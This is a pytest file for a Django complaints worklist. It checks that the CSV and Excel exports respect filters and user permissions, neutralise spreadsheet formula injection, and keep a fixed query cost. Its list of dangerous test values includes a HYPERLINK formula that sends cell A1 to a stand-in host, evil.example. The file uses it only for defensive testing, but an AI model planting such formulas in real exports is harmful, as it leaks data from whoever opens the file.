"""CSV and XLSX exports of the worklist (issue 8, point 5; QUALITY.md "CSV/XLSX export").

The downloads hold exactly the cases the worklist's filters show, on every page, within the
user's scope; every text cell a spreadsheet would run as a formula is neutralised; and the
cost is a fixed number of queries.
"""

import csv
import io
from datetime import date, datetime

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from complaints.models import ClosureReason, Stage, Theme
from reporting.exports import neutralise
from tests.factories import ComplaintFactory, DepartmentFactory

pytestmark = pytest.mark.django_db

CSV_URL = "complaints:worklist_csv"
XLSX_URL = "complaints:worklist_xlsx"
NAME = 11  # the complainant's name is the last of the 12 columns
DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
    "@SUM(1)",
    "+31 6 12345678",
    "-x",
    "\tTab",
    "\rReturn",
]
HARMLESS = ["Jan de Vries", "A=B", "Zoë d'Ancona"]


@pytest.fixture
def other_department():
    return DepartmentFactory(code="bel", name="Belastingen")


@pytest.fixture
def coordinator(user_factory, department):
    return user_factory(coordinator=True, department=department)


@pytest.fixture
def signed_in(client):
    def sign_in(user):
        client.force_login(user)
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        return client

    return sign_in


def csv_rows(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads it as UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def export(client, url_name: str, **params):
    return client.get(reverse(url_name), params)


# ---------------------------------------------------------------------------
# What is in the file
# ---------------------------------------------------------------------------
def test_the_export_holds_every_filtered_case_of_every_page(
    signed_in, coordinator, handler, department, other_department
):
    wanted = ComplaintFactory.create_batch(
        52, stage=Stage.EXPLORE, department=department, handler=handler
    )
    ComplaintFactory(stage=Stage.INTAKE, department=department, handler=handler)  # other stage
    ComplaintFactory(stage=Stage.EXPLORE, department=department, handler=handler, rung=1)
    client = signed_in(coordinator)
    expected = {case.reference for case in wanted}

    params = {"scope": "all", "stage": Stage.EXPLORE, "rung": "2"}
    assert len(client.get(reverse("complaints:worklist"), params).context["page"]) == 50
    rows = csv_rows(export(client, CSV_URL, **params))
    assert {row[0] for row in rows[1:]} == expected
    assert len(rows) == 1 + 52
    sheet = xlsx_rows(export(client, XLSX_URL, **params))
    assert [row[0] for row in sheet[1:]] == [row[0] for row in rows[1:]]  # same order


def test_the_columns_a_coordinator_needs(signed_in, coordinator, handler, department):
    case = ComplaintFactory(
        closed=True,
        reason=ClosureReason.JUDGED,
        department=department,
        handler=handler,
        complainant_name="Anna Bakker",
        closed_at=timezone.make_aware(datetime(2026, 11, 20, 14, 30)),
    )
    case.themes.set(Theme.objects.order_by("name_en")[:2])
    themes = ", ".join(theme.name_en for theme in case.themes.order_by("name_nl"))
    client = signed_in(coordinator)
    params = {"scope": "all", "stage": Stage.CLOSED}

    header, row = csv_rows(export(client, CSV_URL, **params))
    assert header == [
        "Reference",
        "Received on",
        "Channel",
        "Stage",
        "Rung",
        "Department",
        "Handler",
        "Decision due",
        "Closed at",
        "Closure reason",
        "Themes",
        "Complainant name",
    ]
    assert row[0] == case.reference
    assert row[1] == case.received_on.isoformat()
    assert row[2:4] == [case.get_channel_display(), case.get_stage_display()]
    assert row[4:7] == ["2", "Burgerzaken", "Hamza El Amrani"]
    assert row[7] == case.decision_due.isoformat()
    assert row[8] == "2026-11-20 14:30"
    assert row[9] == str(ClosureReason.JUDGED.label)
    assert row[10] == themes and themes.count(", ") == 1
    assert row[11] == "Anna Bakker"

    sheet_header, sheet_row = xlsx_rows(export(client, XLSX_URL, **params))
    assert sheet_header == header
    assert sheet_row[1] == datetime.combine(case.received_on, datetime.min.time())  # a date cell
    assert sheet_row[4] == 2
    assert sheet_row[8] == datetime(2026, 11, 20, 14, 30)
    assert sheet_row[10:] == [themes, "Anna Bakker"]


def test_a_handler_exports_only_the_cases_they_may_see(
    signed_in, handler, department, other_department
):
    mine = ComplaintFactory(department=department, handler=handler)
    colleagues = ComplaintFactory(department=department)
    elsewhere = ComplaintFactory(department=other_department)
    client = signed_in(handler)

    def references(**params) -> set[str]:
        return {row[0] for row in csv_rows(export(client, CSV_URL, **params))[1:]}

    assert references(scope="department") == {mine.reference, colleagues.reference}
    assert references(scope="mine") == {mine.reference}
    # "all" needs the coordinator's permission: the handler gets their own cases.
    assert references(scope="all") == {mine.reference}
    assert elsewhere.reference not in references(scope="department", q=elsewhere.reference)
    sheet = xlsx_rows(export(client, XLSX_URL, scope="department"))
    assert {row[0] for row in sheet[1:]} == {mine.reference, colleagues.reference}


# ---------------------------------------------------------------------------
# Formula injection (OWASP "CSV Injection")
# ---------------------------------------------------------------------------
@pytest.fixture
def named_cases(department, handler):
    names = DANGEROUS + HARMLESS
    for name in names:
        ComplaintFactory(department=department, handler=handler, complainant_name=name)
    return names


def expected_names(names) -> set[str]:
    return {"'" + name for name in DANGEROUS} | set(HARMLESS)


def test_csv_cells_that_start_a_formula_are_neutralised(signed_in, handler, named_cases):
    rows = csv_rows(export(signed_in(handler), CSV_URL, scope="mine"))
    assert {row[NAME] for row in rows[1:]} == expected_names(named_cases)


def test_xlsx_cells_that_start_a_formula_are_neutralised(signed_in, handler, named_cases):
    response = export(signed_in(handler), XLSX_URL, scope="mine")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[NAME] for row in sheet.iter_rows(min_row=2)]
    # XML reads a carriage return back as a line feed; the quote in front is what counts.
    expected = {name.replace("\r", "\n") for name in expected_names(named_cases)}
    assert {cell.value for cell in cells} == expected
    assert {cell.data_type for cell in cells} == {"s"}  # text, not one formula


def test_neutralise_leaves_other_values_alone():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("") == ""
    assert neutralise("KL-2026-00001") == "KL-2026-00001"
    assert neutralise(-3) == -3
    assert neutralise(date(2026, 1, 2)) == date(2026, 1, 2)
    assert neutralise(None) is None


# ---------------------------------------------------------------------------
# The downloads
# ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url_name", "content_type", "extension"),
    [
        (CSV_URL, "text/csv; charset=utf-8", "csv"),
        (XLSX_URL, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    ],
)
def test_the_downloads_are_attachments_named_with_the_date(
    signed_in, handler, department, url_name, content_type, extension
):
    ComplaintFactory(department=department, handler=handler)
    response = export(signed_in(handler), url_name)
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="cases-{today}.{extension}"'


@pytest.mark.parametrize("url_name", [CSV_URL, XLSX_URL])
def test_anonymous_visitors_are_sent_to_sign_in(client, url_name):
    response = client.get(reverse(url_name))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login") + "?next=")


@pytest.mark.parametrize("url_name", [CSV_URL, XLSX_URL])
def test_staff_without_the_worklist_may_not_export(signed_in, user_factory, url_name):
    ComplaintFactory()
    assert export(signed_in(user_factory(employee=True)), url_name).status_code == 403


def test_the_worklist_links_to_both_downloads_with_its_filters(signed_in, handler, department):
    ComplaintFactory(department=department, handler=handler)
    page = signed_in(handler).get(reverse("complaints:worklist"), {"scope": "department"})
    html = page.content.decode()
    assert f'href="{reverse(CSV_URL)}?scope=department"' in html
    assert f'href="{reverse(XLSX_URL)}?scope=department"' in html
    assert "Download CSV" in html and "Download Excel (xlsx)" in html


# ---------------------------------------------------------------------------
# Cost
# ---------------------------------------------------------------------------
def add_cases(department, other_department, handler, count: int) -> None:
    themes = list(Theme.objects.all()[:2])
    for number in range(count):
        case = ComplaintFactory(
            department=department if number % 3 else other_department,
            handler=handler if number % 2 else None,
        )
        case.themes.set(themes[: number % 3])


@pytest.mark.parametrize("url_name", [CSV_URL, XLSX_URL])
def test_an_export_costs_the_same_for_3_cases_as_for_30(
    signed_in, coordinator, handler, department, other_department, url_name
):
    client = signed_in(coordinator)
    url = f"{reverse(url_name)}?scope=all"
    add_cases(department, other_department, handler, 3)
    client.get(url)  # warm up whatever is cached per process (content types)

    def queries() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
        assert response.status_code == 200
        rows = csv_rows(response) if url_name == CSV_URL else xlsx_rows(response)
        return len(captured.captured_queries), len(rows) - 1

    few, three = queries()
    add_cases(department, other_department, handler, 27)
    many, thirty = queries()
    assert (three, thirty) == (3, 30)
    assert few == many
